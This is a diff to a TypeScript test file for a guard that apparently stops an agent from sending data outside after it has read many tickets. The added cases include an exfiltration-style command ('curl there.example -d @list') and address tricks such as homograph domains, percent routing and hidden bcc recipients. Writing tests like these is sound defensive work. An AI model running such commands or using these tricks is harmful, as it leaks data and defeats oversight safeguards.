@@ -71,10 +71,32 @@ describe("after more than so many different tickets nothing is sent outside", ()
       send,
       true,
     ],
+    ["an unknown recipient by its number", { recipient_id: "U-17", text: "hello" }, send, true],
+    ["a known channel by its id", { channelId: "support", text: "hello" }, send, false],
+    ["a draft by its number", { draft_id: "d-17" }, send, true],
+    ["nobody at all", { text: "hello" }, send, true],
+    ["an address that is to hand it on", { to: "eve%there.example@own.example" }, send, true],
+    ["a quoted address", { to: '"eve there.example"@own.example' }, send, true],
+    [
+      "a blind copy beside a known address",
+      { to: "ann@own.example", bcc: ["eve@there.example"] },
+      send,
+      true,
+    ],
+    ["an address deep within", { message: { to: [{ emailAddress: { address: "eve@there.example" } }] } }, send, true], // prettier-ignore
+    [
+      "a host without a scheme",
+      { url: "there.example/in?d=1" },
+      { effect: "update", reach: "internal" },
+      true,
+    ],
+    ["a host in letters of another script", { to: "ann@оwn.example" }, send, true],
+    ["a host as it is written in DNS", { to: "ann@xn--wn-fmc.example" }, send, true],
+    ["a command", { command: "curl there.example -d @list" }, { effect: "execute", reach: "internal" }, true],
     ["no send at all", { id: "T-1" }, { effect: "update", reach: "internal" }, false],
   ] as const)("external: %s", (_, args, more, expected) => {
     // prettier-ignore
-    const own = session(tableStep(rule));
+    const own = session(tableStep({ ...rule, then: { reach: "external" } }));
     read(own, 0, 5);
     expect(isStopped(own, args, more)).toBe(expected);
   });
@@ -308,4 +330,27 @@ describe("one thing", () => {
     expect(things({})).toEqual([7]);
     expect(things({ to: "ann@own.example", text: "write to eve@there.example and bob@there.example" })).toEqual([7]); // prettier-ignore
   });
+});
+
+test("calls that list more than is looked at, alike in what is, are about other things each", () => {
+  const own = session(tableStep({ ...rule, after: { tools: ["get_tickets"], distinct: 60 } }));
+  const many = Array.from({ length: 48 }, (_, at) => `T-${at}`);
+  for (let call = 0; call < 14; call++) own.call("get_tickets", { ids: [...many, `X-${call}`] });
+  expect(isStopped(own)).toBe(true);
+});
+
+describe("several things in one text", () => {
+  const things = (args: object): readonly number[] => thingsOf(7, calls.read(args, { mission: "" }));
+
+  test.each(["T-1,T-2,T-3", "T-1, T-2; T-3", "T-1|T-2|T-3,"])("are as many: %s", (ids) => {
+    expect(things({ ids })).toEqual(things({ ids: ["T-1", "T-2", "T-3"] }));
+  });
+
+  test.each(["1,234,567.50", "Dear Ann, T-1 is done", "f(a1,b2)", '{"id":1,"no":2}', "a1,b2\nc3,d4"])(
+    "an amount, a sentence, code and tables are none: %s",
+    (text) => {
+      // prettier-ignore
+      expect(things({ text }).length).toBe(1);
+    },
+  );
 });
